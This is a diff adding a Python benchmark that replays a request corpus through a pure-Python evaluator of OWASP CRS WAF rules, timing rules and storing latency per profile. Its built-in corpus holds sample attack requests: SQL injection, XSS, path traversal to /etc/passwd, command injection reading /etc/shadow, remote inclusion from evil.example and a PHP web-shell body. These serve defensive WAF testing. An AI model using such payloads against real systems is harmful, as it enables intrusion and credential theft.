@@ -0,0 +1,625 @@
+"""
+Benchmark of the cost of the rule sets of a WafProfile.
+
+The bundle that prepare_waf_rulesets builds for the profile is replayed
+with a corpus of benign and attack requests through a pure python
+evaluator of the CRS rules, timing every rule. The evaluator runs the
+operators and transformations of the request rules (phase 1 and 2) at
+the paranoia level of the profile, the other actions (setvar, anomaly
+scoring, skipAfter) are not run. Rules with an operator, transformation
+or regex the evaluator does not support are skipped and counted. The
+times are those of the python evaluator, they are an estimate to compare
+the rule sets and profiles, not the latency of libmodsecurity.
+
+The results are stored in WafProfile.benchmark and the p50 added latency
+in WafProfile.estimated_overhead_ms.
+
+    python waf_bench.py <waf profile> [--corpus requests.json] [--iterations 5]
+"""
+import argparse
+import base64
+import datetime
+import hashlib
+import html
+import io
+import ipaddress
+import json
+import os
+import re
+import tarfile
+import time
+import urllib.parse
+
+from mongoengine import connect
+
+import base_query
+import create_proxy_svc
+import crs_rules
+import models
+
+DB_HOST = os.getenv('MONGODB_HOST', 'mongodb://localhost/sbf')
+# number of the most expensive rules kept in the results
+TOP_RULES = 20
+
+CORPUS = [
+    {'kind': 'benign', 'method': 'GET', 'uri': '/'},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/index.html',
+     'headers': {'Accept': 'text/html', 'Accept-Language': 'en-US,en;q=0.9'}},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/api/items?page=2&page_size=25&sort=-date_added'},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/search?q=blue+running+shoes&lang=en',
+     'headers': {'Cookie': 'session=5f1c2a9e; theme=dark'}},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/static/js/app.3f2a1c.js',
+     'headers': {'Accept-Encoding': 'gzip, deflate, br'}},
+    {'kind': 'benign', 'method': 'POST', 'uri': '/login',
+     'headers': {'Content-Type': 'application/x-www-form-urlencoded'},
+     'body': 'username=alice&password=correct+horse+battery&remember=1'},
+    {'kind': 'benign', 'method': 'POST', 'uri': '/api/orders',
+     'headers': {'Content-Type': 'application/x-www-form-urlencoded'},
+     'body': 'item=1234&quantity=2&note=Leave+at+the+front+door%2C+thanks'},
+    {'kind': 'benign', 'method': 'POST', 'uri': '/api/profile/42',
+     'headers': {'Content-Type': 'application/x-www-form-urlencoded'},
+     'body': 'name=Jane+Doe&email=jane%40example.com&city=Springfield'},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/api/cart/item/9', 'headers': {'Cookie': 'session=5f1c2a9e'}},
+    {'kind': 'benign', 'method': 'GET', 'uri': '/docs/getting-started?section=install#linux'},
+    {'kind': 'attack', 'method': 'GET', 'uri': "/products?id=1'+OR+'1'='1"},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/products?id=1+UNION+SELECT+username,password+FROM+users--'},
+    {'kind': 'attack', 'method': 'POST', 'uri': '/login',
+     'headers': {'Content-Type': 'application/x-www-form-urlencoded'},
+     'body': "username=admin'--&password=x"},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/search?q=<script>alert(document.cookie)</script>'},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/profile?name=<img+src=x+onerror=alert(1)>'},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/download?file=../../../../etc/passwd'},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/ping?host=127.0.0.1;cat+/etc/shadow'},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/index.php?page=http://evil.example/shell.txt?'},
+    {'kind': 'attack', 'method': 'POST', 'uri': '/upload.php',
+     'headers': {'Content-Type': 'application/x-www-form-urlencoded'},
+     'body': 'cmd=<?php+system($_GET["c"]);+?>'},
+    {'kind': 'attack', 'method': 'GET', 'uri': '/',
+     'headers': {'User-Agent': 'sqlmap/1.4.7#stable (http://sqlmap.org)'}},
+]
+
+REQUEST_PHASES = ('1', '2', 'request')
+
+
+class Unsupported(Exception):
+    pass
+
+
+def load_bundle(waf_profile_name):
+    """
+    file name -> contents of the rules tgz of the waf profile
+    """
+    data = base64.b64decode(create_proxy_svc.prepare_waf_rulesets(waf_profile_name))
+    files = {}
+    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
+        for member in tar.getmembers():
+            if member.isfile():
+                files[member.name] = tar.extractfile(member).read().decode('utf-8', 'replace')
+    return files
+
+
+def data_file_lines(files, name):
+    if name not in files:
+        raise Unsupported("missing data file %s" % name)
+    return [line.strip() for line in files[name].splitlines()
+            if line.strip() and not line.strip().startswith('#')]
+
+
+# transformations, names are lower case. The values are str, the bytes
+# that are not utf-8 are kept as surrogates (surrogateescape) so that the
+# binary results (md5, sha1) are hex encoded as their bytes
+def to_bytes(value):
+    return value.encode('utf-8', 'surrogateescape')
+
+
+def from_bytes(data):
+    return data.decode('utf-8', 'surrogateescape')
+
+
+def url_decode(value):
+    return urllib.parse.unquote_plus(value)
+
+
+def url_decode_uni(value):
+    # %uHHHH as well
+    value = re.sub(r'%u([0-9a-fA-F]{4})', lambda m: chr(int(m.group(1), 16)), value)
+    return url_decode(value)
+
+
+def utf8_to_unicode(value):
+    # the non ascii characters as %uHHHH
+    return ''.join(char if ord(char) < 0x80 or 0xdc80 <= ord(char) <= 0xdcff
+                   else '%%u%04x' % ord(char) for char in value)
+
+
+def remove_comments(value):
+    return re.sub(r'/\*.*?(\*/|$)|--.*$|#.*$', ' ', value, flags=re.S | re.M)
+
+
+def cmd_line(value):
+    value = re.sub(r'[\\"\'^]', '', value)
+    value = re.sub(r'[,;\s]+', ' ', value)
+    value = re.sub(r'\s*([/(])', r'\1', value)
+    return value.lower()
+
+
+TRANSFORMS = {
+    'lowercase': str.lower,
+    'uppercase': str.upper,
+    'urldecode': url_decode,
+    'urldecodeuni': url_decode_uni,
+    'htmlentitydecode': html.unescape,
+    'jsdecode': lambda value: value.encode('latin-1', 'replace').decode('unicode_escape', 'replace'),
+    'cssdecode': lambda value: re.sub(r'\\([0-9a-fA-F]{1,6})\s?',
+                                      lambda m: chr(min(int(m.group(1), 16), 0x10ffff)), value),
+    'compresswhitespace': lambda value: re.sub(r'\s+', ' ', value),
+    'removewhitespace': lambda value: re.sub(r'\s+', '', value),
+    'removenulls': lambda value: value.replace('\x00', ''),
+    'replacenulls': lambda value: value.replace('\x00', ' '),
+    'removecomments': remove_comments,
+    'replacecomments': lambda value: re.sub(r'/\*.*?(\*/|$)', ' ', value, flags=re.S),
+    'removecommentschar': lambda value: re.sub(r'/\*|\*/|--|#', '', value),
+    'normalizepath': lambda value: os.path.normpath(value) if value else value,
+    'normalisepath': lambda value: os.path.normpath(value) if value else value,
+    'normalizepathwin': lambda value: os.path.normpath(value.replace('\\', '/')) if value else value,
+    'normalisepathwin': lambda value: os.path.normpath(value.replace('\\', '/')) if value else value,
+    'trim': str.strip,
+    'trimleft': str.lstrip,
+    'trimright': str.rstrip,
+    'length': lambda value: str(len(value)),
+    'utf8tounicode': utf8_to_unicode,
+    'hexencode': lambda value: to_bytes(value).hex(),
+    'base64decode': lambda value: base64.b64decode(value + '===', validate=False).decode('utf-8', 'replace'),
+    'sha1': lambda value: from_bytes(hashlib.sha1(to_bytes(value)).digest()),
+    'md5': lambda value: from_bytes(hashlib.md5(to_bytes(value)).digest()),
+    'cmdline': cmd_line,
+    'escapeseqdecode': lambda value: value.encode('latin-1', 'replace').decode('unicode_escape', 'replace'),
+}
+
+
+def rule_transforms(rule):
+    names = []
+    for value in crs_rules.action_values(rule, 't'):
+        name = value.lower()
+        if name == 'none':
+            names = []
+        elif name not in TRANSFORMS:
+            raise Unsupported("transformation %s" % value)
+        else:
+            names.append(TRANSFORMS[name])
+    return names
+
+
+def expand_macros(text, tx):
+    def replace(match):
+        name = match.group(1)
+        if not name.lower().startswith('tx.'):
+            raise Unsupported("macro %s" % name)
+        return tx.get(name[3:].lower(), '')
+    return re.sub(r'%\{([^}]+)\}', replace, text)
+
+
+def compile_operator(operator, files, tx):
+    """
+    Return a function value -> bool for the rule operator
+    """
+    negate = operator.startswith('!')
+    operator = operator[1:] if negate else operator
+    if not operator.startswith('@'):
+        name, param = 'rx', operator
+    else:
+        name, _, param = operator[1:].partition(' ')
+    param = expand_macros(param.strip(), tx)
+    if name == 'rx':
+        try:
+            regex = re.compile(param, re.S)
+        except re.error as e:
+            raise Unsupported("regex %s" % e)
+        func = lambda value: regex.search(value) is not None
+    elif name in ('pm', 'pmFromFile', 'pmf'):
+        if name == 'pm':
+            phrases = param.lower().split()
+        else:
+            phrases = [line.lower() for fname in param.split() for line in data_file_lines(files, fname)]
+        func = lambda value: any(phrase in value.lower() for phrase in phrases)
+    elif name in ('ipMatch', 'ipMatchFromFile', 'ipMatchF'):
+        if name == 'ipMatch':
+            values = param.replace(',', ' ').split()
+        else:
+            values = [line for fname in param.split() for line in data_file_lines(files, fname)]
+        networks = [ipaddress.ip_network(value, strict=False) for value in values]
+
+        def func(value):
+            try:
+                addr = ipaddress.ip_address(value)
+            except ValueError:
+                return False
+            return any(addr in network for network in networks)
+    elif name == 'streq':
+        func = lambda value: value == param
+    elif name == 'contains':
+        func = lambda value: param in value
+    elif name == 'containsWord':
+        word = re.compile(r'\b%s\b' % re.escape(param))
+        func = lambda value: word.search(value) is not None
+    elif name == 'beginsWith':
+        func = lambda value: value.startswith(param)
+    elif name == 'endsWith':
+        func = lambda value: value.endswith(param)
+    elif name == 'within':
+        func = lambda value: bool(value) and value in param
+    elif name in ('eq', 'ge', 'gt', 'le', 'lt'):
+        compare = {'eq': int.__eq__, 'ge': int.__ge__, 'gt': int.__gt__,
+                   'le': int.__le__, 'lt': int.__lt__}[name]
+        try:
+            number = int(param or 0)
+        except ValueError:
+            raise Unsupported("operator %s %s" % (name, param))
+
+        def func(value):
+            try:
+                return compare(int(value), number)
+            except ValueError:
+                return compare(0, number)
+    elif name == 'unconditionalMatch':
+        func = lambda value: True
+    elif name == 'noMatch':
+        func = lambda value: False
+    else:
+        raise Unsupported("operator @%s" % name)
+    if negate:
+        return lambda value: not func(value)
+    return func
+
+
+def parse_targets(variables):
+    """
+    List of (collection, selector, exclusions, count) of the rule variables
+    """
+    targets = []
+    exclusions = {}
+    for part in variables.split('|'):
+        if not part:
+            continue
+        collection, _, selector = part.partition(':')
+        if collection.startswith('!'):
+            exclusions.setdefault(collection[1:].upper(), []).append(selector)
+            continue
+        count = collection.startswith('&')
+        targets.append((collection.lstrip('&').upper(), selector, count))
+    return [(collection, selector, exclusions.get(collection, []), count)
+            for collection, selector, count in targets]
+
+
+def selector_match(selector, key):
+    if selector.startswith('/') and selector.endswith('/') and len(selector) > 1:
+        return re.search(selector[1:-1], key, re.I) is not None
+    return selector.lower() == key.lower()
+
+
+def select_values(variables, targets, matched):
+    values = []
+    for collection, selector, exclusions, count in targets:
+        if collection in ('MATCHED_VAR', 'MATCHED_VARS'):
+            items = [('', value) for value in matched]
+        else:
+            items = variables.get(collection)
+            if items is None:
+                if collection not in SUPPORTED_VARIABLES:
+                    raise Unsupported("variable %s" % collection)
+                items = []
+        if selector:
+            items = [(key, value) for key, value in items if selector_match(selector, key)]
+        if exclusions:
+            items = [(key, value) for key, value in items
+                     if not any(selector_match(excl, key) for excl in exclusions)]
+        if count:
+            values.append(str(len(items)))
+        else:
+            values.extend(value for _, value in items)
+    return values
+
+
+SUPPORTED_VARIABLES = set([
+    'ARGS', 'ARGS_GET', 'ARGS_POST', 'ARGS_NAMES', 'ARGS_GET_NAMES', 'ARGS_POST_NAMES',
+    'ARGS_COMBINED_SIZE', 'REQUEST_HEADERS', 'REQUEST_HEADERS_NAMES', 'REQUEST_COOKIES',
+    'REQUEST_COOKIES_NAMES', 'REQUEST_URI', 'REQUEST_URI_RAW', 'REQUEST_FILENAME',
+    'REQUEST_BASENAME', 'QUERY_STRING', 'REQUEST_METHOD', 'REQUEST_PROTOCOL',
+    'REQUEST_LINE', 'REQUEST_BODY', 'REQUEST_BODY_LENGTH', 'REMOTE_ADDR', 'TX',
+    'FILES', 'FILES_NAMES', 'FILES_COMBINED_SIZE', 'XML', 'REQBODY_ERROR',
+    'REQBODY_PROCESSOR', 'MULTIPART_STRICT_ERROR', 'MULTIPART_UNMATCHED_BOUNDARY',
+    'UNIQUE_ID', 'DURATION', 'TIME_EPOCH', 'WEBAPPID', 'GLOBAL', 'IP', 'SESSION',
+])
+
+
+def request_variables(req, tx):
+    """
+    collection name -> [(key, value), ..] of the request
+    """
+    method = req.get('method', 'GET')
+    uri = req['uri']
+    headers = dict(req.get('headers', {}))
+    headers.setdefault('Host', 'app.example.com')
+    headers.setdefault('User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/90.0')
+    headers.setdefault('Accept', '*/*')
+    body = req.get('body', '')
+    if body:
+        headers.setdefault('Content-Length', str(len(body)))
+    path, _, query = uri.partition('?')
+    query = query.split('#')[0]
+    args_get = urllib.parse.parse_qsl(query, keep_blank_values=True)
+    args_post = []
+    content_type = headers.get('Content-Type', '')
+    if body and content_type.startswith('application/x-www-form-urlencoded'):
+        args_post = urllib.parse.parse_qsl(body, keep_blank_values=True)
+    cookies = []
+    for item in headers.get('Cookie', '').split(';'):
+        if '=' in item:
+            key, _, value = item.strip().partition('=')
+            cookies.append((key, value))
+    decoded_path = urllib.parse.unquote(path)
+    return {
+        'ARGS': args_get + args_post,
+        'ARGS_GET': args_get,
+        'ARGS_POST': args_post,
+        'ARGS_NAMES': [(key, key) for key, _ in args_get + args_post],
+        'ARGS_GET_NAMES': [(key, key) for key, _ in args_get],
+        'ARGS_POST_NAMES': [(key, key) for key, _ in args_post],
+        'ARGS_COMBINED_SIZE': [('', str(sum(len(k) + len(v) for k, v in args_get + args_post)))],
+        'REQUEST_HEADERS': list(headers.items()),
+        'REQUEST_HEADERS_NAMES': [(key, key) for key in headers],
+        'REQUEST_COOKIES': cookies,
+        'REQUEST_COOKIES_NAMES': [(key, key) for key, _ in cookies],
+        'REQUEST_URI': [('', uri)],
+        'REQUEST_URI_RAW': [('', uri)],
+        'REQUEST_FILENAME': [('', decoded_path)],
+        'REQUEST_BASENAME': [('', decoded_path.rsplit('/', 1)[-1])],
+        'QUERY_STRING': [('', query)],
+        'REQUEST_METHOD': [('', method)],
+        'REQUEST_PROTOCOL': [('', 'HTTP/1.1')],
+        'REQUEST_LINE': [('', '%s %s HTTP/1.1' % (method, uri))],
+        'REQUEST_BODY': [('', body)] if body else [],
+        'REQUEST_BODY_LENGTH': [('', str(len(body)))],
+        'REMOTE_ADDR': [('', req.get('remote_addr', '192.0.2.10'))],
+        'TX': list(tx.items()),
+    }
+
+
+def compile_rule(rule, files, tx):
+    targets = parse_targets(rule['variables'])
+    return {
+        'targets': targets,
+        'transforms': rule_transforms(rule),
+        'operator': compile_operator(rule['operator'], files, tx) if rule['operator'] else None,
+    }
+
+
+def eval_rule(compiled, variables, matched):
+    """
+    Values of the rule variables that matched, a SecAction always matches
+    """
+    if compiled['operator'] is None:
+        return ['']
+    values = select_values(variables, compiled['targets'], matched)
+    hits = []
+    for value in values:
+        try:
+            for transform in compiled['transforms']:
+                value = transform(value)
+        except ValueError:
+            # not decodable, eg. base64Decode of a value that is not base64
+            continue
+        if compiled['operator'](value):
+            hits.append(value)
+    return hits
+
+
+def eval_chain(chain, variables):
+    matched = []
+    for compiled in chain:
+        matched = eval_rule(compiled, variables, matched)
+        if not matched:
+            return False
+    return True
+
+
+def rule_phase(rule):
+    phases = crs_rules.action_values(rule, 'phase')
+    return phases[0] if phases else '2'
+
+
+def is_scoring(rule):
+    """
+    True if the rule adds to the anomaly score when it matches, a request
+    matching one of these is detected
+    """
+    for item in [rule] + rule['chain']:
+        for value in crs_rules.action_values(item, 'setvar'):
+            if value and re.match(r'tx\.\w*anomaly_score_pl\d=\+', value, re.I):
+                return True
+    return False
+
+
+def load_rules(files, paranoia_level):
+    """
+    The request rules of the bundle to evaluate at the paranoia level,
+    with the counts of the rules left out
+    """
+    # the profile settings, then the defaults of the initialization rules
+    tx = crs_rules.parse_setup(files.get(create_proxy_svc.PROFILE_SETUP_FILE, ''))
+    tx.update((key, value) for key, value in
+              crs_rules.parse_setup(files.get('REQUEST-901-INITIALIZATION.conf', '')).items()
+              if key not in tx)
+    tx['paranoia_level'] = tx['executing_paranoia_level'] = str(paranoia_level)
+    skipped = {'paranoia': 0, 'response': 0, 'unsupported': 0}
+    # reason -> number of rules skipped for it
+    unsupported = {}
+    rules = []
+    for fname in sorted(files):
+        if not fname.endswith('.conf'):
+            continue
+        for rule in crs_rules.parse_file(fname, files[fname]):
+            if rule['directive'] not in crs_rules.RULE_DIRECTIVES or rule['paranoia_marker']:
+                continue
+            if rule['paranoia_level'] > paranoia_level:
+                skipped['paranoia'] += 1
+                continue
+            if fname.startswith('RESPONSE-') or rule_phase(rule) not in REQUEST_PHASES:
+                skipped['response'] += 1
+                continue
+            try:
+                chain = [compile_rule(item, files, tx) for item in [rule] + rule['chain']]
+            except (Unsupported, ValueError) as e:
+                skipped['unsupported'] += 1
+                reason = str(e).split(' ', 2)[:2]
+                unsupported[' '.join(reason)] = unsupported.get(' '.join(reason), 0) + 1
+                continue
+            rules.append({'rule': rule, 'chain': chain, 'time': 0.0, 'matches': 0,
+                          'scoring': is_scoring(rule)})
+    return rules, tx, skipped, unsupported
+
+
+def percentile(values, pct):
+    if not values:
+        return 0.0
+    values = sorted(values)
+    idx = min(len(values) - 1, int(round(pct / 100.0 * (len(values) - 1))))
+    return values[idx]
+
+
+def latency_summary(values):
+    return {
+        'mean_ms': round(sum(values) / max(1, len(values)), 3),
+        'p50_ms': round(percentile(values, 50), 3),
+        'p99_ms': round(percentile(values, 99), 3),
+        'max_ms': round(max(values) if values else 0.0, 3),
+    }
+
+
+def run(files, corpus, paranoia_level, iterations=5):
+    """
+    Replay the corpus iterations times through the rules of the bundle and
+    return the results
+    """
+    rules, tx, skipped, unsupported = load_rules(files, paranoia_level)
+    latencies = {'benign': [], 'attack': []}
+    detected = {'benign': 0, 'attack': 0}
+    for iteration in range(iterations):
+        for req in corpus:
+            variables = request_variables(req, tx)
+            total = 0.0
+            hit = False
+            for entry in rules:
+                start = time.perf_counter()
+                try:
+                    matched = eval_chain(entry['chain'], variables)
+                except Unsupported:
+                    matched = False
+                elapsed = time.perf_counter() - start
+                entry['time'] += elapsed
+                total += elapsed
+                if matched:
+                    entry['matches'] += 1
+                    hit = hit or entry['scoring']
+            kind = req.get('kind', 'benign')
+            latencies.setdefault(kind, []).append(total * 1000)
+            if iteration == 0 and hit:
+                detected[kind] = detected.get(kind, 0) + 1
+    runs = max(1, iterations * len(corpus))
+    by_file = {}
+    for entry in rules:
+        fname = entry['rule']['file']
+        stats = by_file.setdefault(fname, {'file': fname, 'rules': 0, 'time_ms': 0.0, 'matches': 0})
+        stats['rules'] += 1
+        stats['time_ms'] += entry['time'] * 1000 / runs
+        stats['matches'] += entry['matches']
+    for stats in by_file.values():
+        stats['time_ms'] = round(stats['time_ms'], 4)
+    top = sorted(rules, key=lambda entry: entry['time'], reverse=True)[:TOP_RULES]
+    all_latencies = [value for values in latencies.values() for value in values]
+    return {
+        'date': datetime.datetime.utcnow(),
+        'evaluator': 'python',
+        'paranoia_level': paranoia_level,
+        'requests': len(corpus),
+        'iterations': iterations,
+        'rules_evaluated': len(rules),
+        'rules_skipped': skipped,
+        # a list as the reasons have rule targets with '.' (not a mongo key)
+        'unsupported': [{'reason': reason, 'rules': count} for reason, count in
+                        sorted(unsupported.items(), key=lambda item: (-item[1], item[0]))],
+        'latency': latency_summary(all_latencies),
+        'by_kind': {kind: dict(latency_summary(values), requests=len(values) // max(1, iterations),
+                               detected=detected.get(kind, 0))
+                    for kind, values in latencies.items() if values},
+        'files': sorted(by_file.values(), key=lambda stats: stats['time_ms'], reverse=True),
+        'rules': [{
+            'id': entry['rule']['id'],
+            'file': entry['rule']['file'],
+            'line': entry['rule']['line'],
+            'time_ms': round(entry['time'] * 1000 / runs, 4),
+            'matches': entry['matches'],
+        } for entry in top],
+    }
+
+
+def benchmark(waf_profile_name, corpus=None, paranoia_level=None, iterations=5, save=True):
+    """
+    Benchmark the rule sets of the waf profile, store and return the results
+    """
+    models.WafProfile.objects(name=waf_profile_name).get()
+    if paranoia_level is None:
+        paranoia_level = create_proxy_svc.waf_settings(waf_profile_name)['paranoia_level']
+    results = run(load_bundle(waf_profile_name), corpus or CORPUS, paranoia_level, iterations)
+    if save:
+        base_query.update_item(models.WafProfile, {'name': waf_profile_name},
+                               benchmark=results,
+                               estimated_overhead_ms=results['latency']['p50_ms'])
+    return results
+
+
+def print_results(results):
+    latency = results['latency']
+    print("%d requests x %d, paranoia level %d, %d rules (skipped %s)" % (
+        results['requests'], results['iterations'], results['paranoia_level'],
+        results['rules_evaluated'], results['rules_skipped']))
+    print("added latency ms: mean %.3f p50 %.3f p99 %.3f" % (
+        latency['mean_ms'], latency['p50_ms'], latency['p99_ms']))
+    for kind, stats in sorted(results['by_kind'].items()):
+        print("  %-8s p50 %.3f p99 %.3f detected %d/%d" % (
+            kind, stats['p50_ms'], stats['p99_ms'], stats['detected'], stats['requests']))
+    print("\nrule files (ms per request):")
+    for stats in results['files']:
+        print("  %8.4f %5d rules %5d matches  %s" % (
+            stats['time_ms'], stats['rules'], stats['matches'], stats['file']))
+    print("\nslowest rules (ms per request):")
+    for rule in results['rules']:
+        print("  %8.4f %5d matches  %s %s:%d" % (
+            rule['time_ms'], rule['matches'], rule['id'], rule['file'], rule['line']))
+
+
+def load_corpus(fname):
+    """
+    Corpus file, a json list of {kind, method, uri, headers, body}
+    """
+    with open(fname) as fd:
+        return json.load(fd)
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Benchmark the rule sets of a waf profile")
+    parser.add_argument('waf_profile')
+    parser.add_argument('--corpus', help="json file with the requests to replay")
+    parser.add_argument('--iterations', type=int, default=5)
+    parser.add_argument('--paranoia-level', type=int)
+    parser.add_argument('--no-save', action='store_true', help="do not store the results")
+    args = parser.parse_args()
+    connect(host=DB_HOST)
+    corpus = load_corpus(args.corpus) if args.corpus else None
+    results = benchmark(args.waf_profile, corpus, args.paranoia_level, args.iterations,
+                        save=not args.no_save)
+    print_results(results)
+
+
+if __name__ == "__main__":
+    main()